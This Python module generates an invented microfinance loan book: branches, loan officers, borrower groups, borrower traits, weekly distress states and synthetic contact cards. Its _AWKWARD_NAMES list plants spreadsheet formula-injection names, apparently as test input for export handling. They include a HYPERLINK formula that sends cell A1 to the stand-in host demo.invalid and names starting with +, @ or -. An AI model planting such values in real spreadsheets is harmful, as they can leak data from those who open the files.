"""Who lives in the demo lender: branches, officers, groups and borrowers, all invented.

The book has to hold something to learn and nothing about anybody. So every borrower draws traits that matter
(how exposed to trouble, how punctual, how forgetful) and a week-by-week life of three states, fine, strained
and failing; the lender's files later show only what these do to payments, and a few attributes that say a little
about them. Names are put together from invented syllables and telephone numbers use country code 999, which
is assigned to no country.

Each borrower draws from random streams of its own, so a larger book keeps the borrowers of a smaller one. Sex
and year of birth are drawn apart from everything else and influence nothing. What this module does not do:
loans and payments (`demo_repayment`), files (`demo_exports`).
"""

import math
from dataclasses import dataclass
from datetime import date

import numpy as np

from data.days import to_date, to_day

FINE, STRAINED, FAILING = 0, 1, 2


@dataclass(frozen=True)
class Branch:
    """`market_weekday` counts from Monday = 0: weekly installments of the branch fall due on it."""

    branch_id: str
    region: str
    market_weekday: int
    calendar: str
    language: str
    exposure: float


@dataclass(frozen=True)
class Officer:
    officer_id: str
    branch_id: str
    minutes_per_day: int
    visits_per_day: int
    languages: str


BRANCHES = (
    Branch("B01", "Lakeside", 1, "KE-B01", "sw", 1.15),
    Branch("B02", "Highland", 3, "KE-B02", "en", 0.85),
    Branch("B03", "Coast", 4, "KE-B03", "sw", 1.0),
)
OFFICERS = (
    Officer("F11", "B01", 240, 8, "sw,en"),
    Officer("F12", "B01", 180, 6, "sw"),
    Officer("F21", "B02", 210, 8, "en,sw"),
    Officer("F22", "B02", 120, 4, "en"),
    Officer("F31", "B03", 240, 8, "sw,en"),
    Officer("F32", "B03", 150, 5, "sw,en"),
)
LEAVING_OFFICER, TAKING_OVER = "F32", "F31"
"""One officer hands some borrowers over to a colleague of the same branch, once, in the middle of the book."""

GROUP_SIZE = 12
_SECTOR_SHARES = {"trade": 0.46, "farming": 0.27, "services": 0.17, "transport": 0.10}
_SECTOR_TROUBLE = {"trade": 0.9, "farming": 1.25, "services": 0.8, "transport": 1.35}
# New-year, May and September school terms; the months before the long harvest.
_SCHOOL_MONTHS, _LEAN_MONTHS = frozenset((1, 5, 9)), frozenset((4, 5, 6))
_PUBLIC_HOLIDAYS = ((1, 1), (5, 1), (6, 1), (10, 20), (12, 12), (12, 25), (12, 26))
_FESTIVAL_OF_BRANCH = {"B01": (8, 8), "B02": (7, 14), "B03": (11, 3)}

_SOUNDS = "ka vo ri tem sha lu ne bo zi mar du fe yol sa pi ngo tre wa hi jun ble xo"
_LAST_SOUNDS = "ru ta no vi mek so la dza pe"
_SYLLABLES, _ENDINGS = _SOUNDS.split(), _LAST_SOUNDS.split()
# What a spreadsheet would run, split or misread. Every 200th borrower has such a name.
_AWKWARD_NAMES = (
    '=HYPERLINK("http://demo.invalid/"&A1;"Tovaru")',
    'Rimota, "Bo" Selumek',
    "N'Tavépe Łokuřno",
    "+Zemuru Patiso",
    "@Sunika Voludza",
    "-Duveso Ñangola",
)


@dataclass(frozen=True)
class Group:
    """`meets_weekday` counts from Monday = 0; members' installments fall due on it. `formed` is a day number."""

    group_id: str
    branch: Branch
    meets_weekday: int
    formed: int
    leader_borrower_id: str
    place: str


@dataclass(frozen=True)
class Borrower:
    """Traits are the truth behind the book; the lender sees sector, years in business and rough sales only."""

    index: int
    borrower_id: str
    joined: int
    branch: Branch
    officer_id: str
    moves_to_other_officer: bool
    group: Group | None
    product: str
    sector: str
    years_in_business: int
    monthly_sales: int
    frailty: float
    lateness: str
    forgets: float
    rounds_to: int
    channel: str
    dies: bool


@dataclass(frozen=True)
class Card:
    """What the lender keeps apart: the directory entry and the protected attributes."""

    name: str
    phones: str
    address: str
    language: str
    preferred_time: str
    guarantor: str
    sex: str
    birth_year: int


def streams(seed: int, index: int) -> list[np.random.Generator]:
    """Three independent streams of one borrower: traits and loans, payments, and the card."""
    children = np.random.SeedSequence(seed, spawn_key=(index,)).spawn(3)
    return [np.random.Generator(np.random.PCG64(child)) for child in children]


def calendar_rows(first: date, last: date) -> list[tuple[str, date, str]]:
    """(calendar, on, kind) of each branch calendar within [first, last]: fixed public holidays and one festival."""
    rows = []
    for branch in BRANCHES:
        days = [(month, day, "holiday") for month, day in _PUBLIC_HOLIDAYS]
        days.append((*_FESTIVAL_OF_BRANCH[branch.branch_id], "festival"))
        for year in range(first.year, last.year + 1):
            rows += [(branch.calendar, date(year, month, day), kind) for month, day, kind in days]
    return sorted(row for row in rows if first <= row[1] <= last)


def draw_borrower(
    rng: np.random.Generator, seed: int, index: int, first_day: int, last_day: int, groups: dict[str, Group]
) -> Borrower:
    """Borrower number `index` of the book. Opens a new group in `groups` (by id) where this borrower founds one."""
    branch = BRANCHES[int(rng.choice(3, p=(0.4, 0.27, 0.33)))]
    officers = [officer.officer_id for officer in OFFICERS if officer.branch_id == branch.branch_id]
    officer_id = officers[int(rng.random() < 0.42)]
    borrower_id = f"C{index + 1:06d}"
    joined = first_day + int((last_day - first_day - 25) * rng.random() ** 1.3)
    in_group = index % 13 == 5
    product = "weekly" if in_group or rng.random() < 0.62 else "monthly"
    group = None
    if in_group:
        member = index // 13
        # Groups fill in turn, three at a time, one for each branch: the founder is known without the rest.
        branch = BRANCHES[member % 3]
        officer_id = next(o.officer_id for o in OFFICERS if o.branch_id == branch.branch_id)
        group_id = f"G{member // (3 * GROUP_SIZE) * 3 + member % 3 + 1:03d}"
        if group_id not in groups:
            formed = first_day + int((last_day - first_day) * 0.6 * rng.random())
            place = f"{_word(rng, 2)} meeting place"
            weekday = (branch.market_weekday + int(rng.integers(0, 2))) % 5
            groups[group_id] = Group(group_id, branch, weekday, formed, borrower_id, place)
        group = groups[group_id]
        joined = min(
            last_day - 25,
            group.formed + int(rng.integers(0, 100)) * (group.leader_borrower_id != borrower_id),
        )
    sector = str(rng.choice(list(_SECTOR_SHARES), p=list(_SECTOR_SHARES.values())))
    years = min(30, int(rng.exponential(5.0)))
    frailty = math.exp(1.2 * rng.normal(0.0, 1.0) - 0.72) * _SECTOR_TROUBLE[sector] * branch.exposure
    return Borrower(
        index=index,
        borrower_id=borrower_id,
        joined=joined,
        branch=branch,
        officer_id=officer_id,
        moves_to_other_officer=officer_id == LEAVING_OFFICER and rng.random() < 0.6,
        group=group,
        product=product,
        sector=sector,
        years_in_business=years,
        monthly_sales=500 * int(rng.lognormal(4.0, 0.5)),
        frailty=frailty * (1.6 if years < 2 else 0.8),
        lateness=str(rng.choice(("punctual", "early", "tardy"), p=(0.62, 0.2, 0.18))),
        forgets=0.08 if rng.random() < 0.2 else 0.015,
        rounds_to=int(rng.choice((0, 5_000, 10_000), p=(0.8, 0.12, 0.08))),
        channel=str(rng.choice(("mobile", "cash", "agent"), p=(0.62, 0.25, 0.13))),
        dies=index % 900 == 40 + seed % 7,
    )


def draw_life(
    rng: np.random.Generator, borrower: Borrower, first_day: int, last_day: int
) -> tuple[list[int], list[int]]:
    """State of each week of the book (week 0 begins on `first_day`) and how many weeks it has already lasted.

    Trouble comes more often to the exposed, around school terms, and to farmers before harvest. Most of it is
    strain that passes; some grows into failing; a little strikes without strain first.
    """
    weeks = (last_day - first_day) // 7 + 1
    draws = rng.random(weeks).tolist()
    states, lasted = [], []
    state, since = FINE, 20
    start = (borrower.joined - first_day) // 7
    for week in range(weeks):
        before, u = state, draws[week]
        month = to_date(first_day + 7 * week).month
        season = 1.35 if month in _SCHOOL_MONTHS else 1.0
        if borrower.sector == "farming" and month in _LEAN_MONTHS:
            season *= 1.4
        if week <= start + 3:
            pass
        elif state == FINE:
            trouble = min(0.25, 0.026 * borrower.frailty * season)
            state = FAILING if u < 0.0005 else STRAINED if u < 0.0005 + trouble else FINE
        elif state == STRAINED:
            falls = 0.02 if since < 3 else 0.11
            state = FAILING if u < falls else FINE if u > 1 - 0.13 else STRAINED
        else:
            state = STRAINED if u < 0.045 else FINE if u > 1 - 0.012 else FAILING
        since = since + 1 if state == before else 0
        states.append(state)
        lasted.append(since)
    return states, lasted


def draw_card(rng: np.random.Generator, borrower: Borrower) -> Card:
    """Directory entry and protected attributes; nothing else in the book depends on them."""
    name = f"{_word(rng, 2)} {_word(rng, 3)}"
    if borrower.index % 200 == 17:
        name = _AWKWARD_NAMES[borrower.index // 200 % len(_AWKWARD_NAMES)]
    phones = _phone(2 * borrower.index)
    if rng.random() < 0.2:
        phones += f"; {_phone(2 * borrower.index + 1)}"
    times = ("", "08:00-10:00", "12:00-14:00", "16:00-18:00")
    return Card(
        name=name,
        phones=phones,
        address=f"House {int(rng.integers(1, 90))}, {_word(rng, 2)} village",
        language="en" if rng.random() < 0.35 else "sw",
        preferred_time=str(rng.choice(times)),
        guarantor=f"{_word(rng, 2)} {_word(rng, 3)}" if borrower.group is None and rng.random() < 0.5 else "",
        sex="F" if rng.random() < 0.66 else "M",
        birth_year=int(rng.integers(1956, 2004)),
    )


def first_day_of_book() -> int:
    """The day number of 2023-01-02, a Monday, when the demo lender's system starts."""
    return to_day(date(2023, 1, 2))


def _word(rng: np.random.Generator, syllables: int) -> str:
    parts = [_SYLLABLES[int(rng.integers(len(_SYLLABLES)))] for _ in range(syllables - 1)]
    return ("".join(parts) + _ENDINGS[int(rng.integers(len(_ENDINGS)))]).capitalize()


def _phone(number: int) -> str:
    """Distinct for the first million numbers: 617,413 and 1,000,000 have no common factor."""
    digits = f"{number * 617_413 % 1_000_000:06d}"
    return f"+999 000 {digits[:4]} {digits[4:]}"
